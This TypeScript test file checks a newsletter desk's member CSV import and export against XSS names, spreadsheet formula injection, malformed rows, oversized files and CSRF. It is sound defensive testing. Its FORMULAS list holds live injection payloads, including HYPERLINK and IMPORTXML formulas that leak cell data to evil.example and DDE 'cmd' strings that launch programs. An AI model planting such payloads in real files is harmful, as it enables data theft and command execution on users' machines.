import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { type TestApp, createTestApp } from '../../test/support/app.js';
import { DIALECTS } from '../../test/support/db.js';
import { type DeskClient, signedIn } from '../../test/support/desk.js';
import { makeNewsletter } from '../../test/support/newsletters.js';
import { XSS_CORPUS } from '../../test/support/xss-corpus.js';
import { spreadsheetSafe } from './members.csv.js';

/** What a payload looks like once the desk's escaper has written it as text. */
const escaped = (x: string) =>
  x.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
const CONTROLS = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/g;

/** Cells a spreadsheet reads as a formula (or reads past to one). */
const FORMULA = /^[=+\-@\t\r]/;
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
];

for (const dialect of DIALECTS) {
  describe(`hostile members CSVs (${dialect})`, () => {
    let t: TestApp;
    let admin: DeskClient;
    let editor: DeskClient;
    let newsletterId: number;
    before(async () => {
      t = await createTestApp(dialect);
      admin = await signedIn(t, 'admin');
      editor = await signedIn(t, 'editor');
      newsletterId = (await makeNewsletter(t.deps, { name: 'Hostile briefing' })).id;
    });
    after(() => t.close());

    const upload = async (csv: string, newsletter = String(newsletterId)) => {
      const form = new FormData();
      form.set('_csrf', admin.csrf);
      form.set('newsletter', newsletter);
      form.set('file', new File([csv], 'hostile.csv', { type: 'text/csv' }));
      return admin.request('/desk/members/import', { method: 'POST', body: form });
    };

    test('the XSS corpus as members’ names is stored as text and shown escaped on the list and each member’s page', async () => {
      const rows = XSS_CORPUS.map((x, i) => [
        `65000000000000000000${String(i).padStart(4, '0')}`,
        `x${i}@corpus.test`,
        x,
      ]);
      const csv = stringify([
        ['id', 'email', 'name', 'subscribed_to_emails', 'created_at'],
        ...rows.map((r) => [...r, 'true', '']),
      ]);
      const res = await upload(csv);
      assert.equal(res.status, 200);
      const report = await res.text();
      assert.match(report, new RegExp(`member: ${XSS_CORPUS.length}\\b`));
      const stored = await t.deps.db
        .selectFrom('readers')
        .select(['id', 'email', 'name'])
        .where('email', 'like', '%@corpus.test')
        .execute();
      assert.equal(stored.length, XSS_CORPUS.length);
      let shown = 0;
      for (const r of stored) {
        const i = Number(/^x(\d+)@/.exec(r.email)![1]);
        const name = XSS_CORPUS[i]!.replace(CONTROLS, '').trim().slice(0, 120);
        assert.equal(r.name, name, `payload ${i} is stored as its text`);
        if (!/[<>"&]/.test(name)) continue;
        const page = await (await editor.get(`/desk/members/${r.id}`)).text();
        const list = await (await editor.get(`/desk/members?q=${encodeURIComponent(r.email)}`)).text();
        assert.match(list, new RegExp(`data-member-id="${r.id}"`));
        for (const html of [page, list]) {
          assert.ok(!html.includes(name), `shown raw: ${name}`);
          assert.ok(html.includes(escaped(name)) || html.includes(escaped(name).replaceAll("'", '&#39;')), name);
          assert.doesNotMatch(html, /<script[^>]*>__xss|<[a-z]+[^<>]*\son[a-z]+=/i, 'no markup of the payload');
        }
        shown++;
      }
      assert.ok(shown > 100, `${shown} payloads with markup characters checked`);
    });

    test('formula injection: every cell the export writes reads as text in a spreadsheet', async () => {
      const csv = stringify([
        ['Email Address', 'First Name', 'Last Name', 'CONFIRM_TIME', 'LEID'],
        ...FORMULAS.map((f, i) => [`=${i}+1@formula.test`, f, i % 2 ? '@x' : '', '2024-01-01 00:00:00', `9${i}`]),
        ['-1+2@formula.test', '+plain', '-minus', '', '990'],
      ]);
      const res = await upload(csv);
      assert.equal(res.status, 200, await res.clone().text());
      const out = await admin.get('/desk/members/export.csv?q=formula.test');
      assert.equal(out.status, 200);
      const cells = (parse(await out.text(), { bom: true, relax_quotes: true }) as string[][]).slice(1).flat();
      assert.ok(cells.length >= (FORMULAS.length + 1) * 11);
      const risky = cells.filter((c) => FORMULA.test(c));
      assert.deepEqual(risky, [], 'no cell starts a formula');
      const names = cells.filter((c) => c.startsWith("'"));
      assert.ok(names.includes(`'${FORMULAS[0]}`), 'the formula is kept, behind an apostrophe');
      assert.ok(names.includes("'=0+1@formula.test"), 'addresses too');
      assert.equal(spreadsheetSafe('Olena'), 'Olena');
      assert.equal(spreadsheetSafe('=1'), "'=1");
      assert.equal(spreadsheetSafe(''), '');
    });

    test('CSV structure: quotes, new lines and commas in a name stay one cell; a NUL is removed, not stored', async () => {
      const csv = stringify([
        ['id', 'email', 'name', 'subscribed_to_emails', 'created_at'],
        ['6500000000000000000ab001', 'lines@structure.test', 'Line one\nLine "two", and\r\nthree', 'true', ''],
        ['6500000000000000000ab002', 'nul@structure.test', 'Nul\u0000Name', 'true', ''],
        ['6500000000000000000ab003', '"<script>"@structure.test', 'Bad address', 'true', ''],
      ]);
      const res = await upload(csv);
      assert.equal(res.status, 200);
      assert.match(await res.text(), /member: 1 × not a valid email address/);
      const rows = await t.deps.db
        .selectFrom('readers')
        .select(['email', 'name'])
        .where('email', 'like', '%@structure.test')
        .orderBy('email')
        .execute();
      assert.deepEqual(rows, [
        { email: 'lines@structure.test', name: 'Line one\nLine "two", and\r\nthree' },
        { email: 'nul@structure.test', name: 'NulName' },
      ]);
      const out = parse(await (await admin.get('/desk/members/export.csv?q=structure.test')).text(), {
        bom: true,
        columns: true,
      }) as Record<string, string>[];
      assert.deepEqual(
        out.map((r) => r.name),
        ['NulName', 'Line one\nLine "two", and\r\nthree'],
      );
    });

    test('a file over the limit is refused with 413 and nothing is read into the database', async () => {
      const line = '6500000000000000000000aa,big@big.test,Big,true,\n';
      const big = `id,email,name,subscribed_to_emails,created_at\n${line.repeat(Math.ceil((17 * 1048576) / line.length))}`;
      const res = await upload(big);
      assert.equal(res.status, 413);
      assert.match(await res.text(), /at most 16 MB/);
      assert.equal(
        await t.deps.db.selectFrom('readers').select('id').where('email', '=', 'big@big.test').executeTakeFirst(),
        undefined,
      );
    });

    test('an import form from another site, or without the CSRF token, is refused before anything is read', async () => {
      const form = new FormData();
      form.set('newsletter', 'none');
      form.set('file', new File(['id,email\n1,csrf@csrf.test'], 'm.csv'));
      const noToken = await admin.request('/desk/members/import', { method: 'POST', body: form });
      assert.equal(noToken.status, 403);
      form.set('_csrf', admin.csrf);
      const elsewhere = await admin.request('/desk/members/import', {
        method: 'POST',
        body: form,
        headers: { origin: 'https://evil.example' },
      });
      assert.equal(elsewhere.status, 403);
      assert.equal(
        await t.deps.db.selectFrom('readers').select('id').where('email', '=', 'csrf@csrf.test').executeTakeFirst(),
        undefined,
      );
    });
  });
}
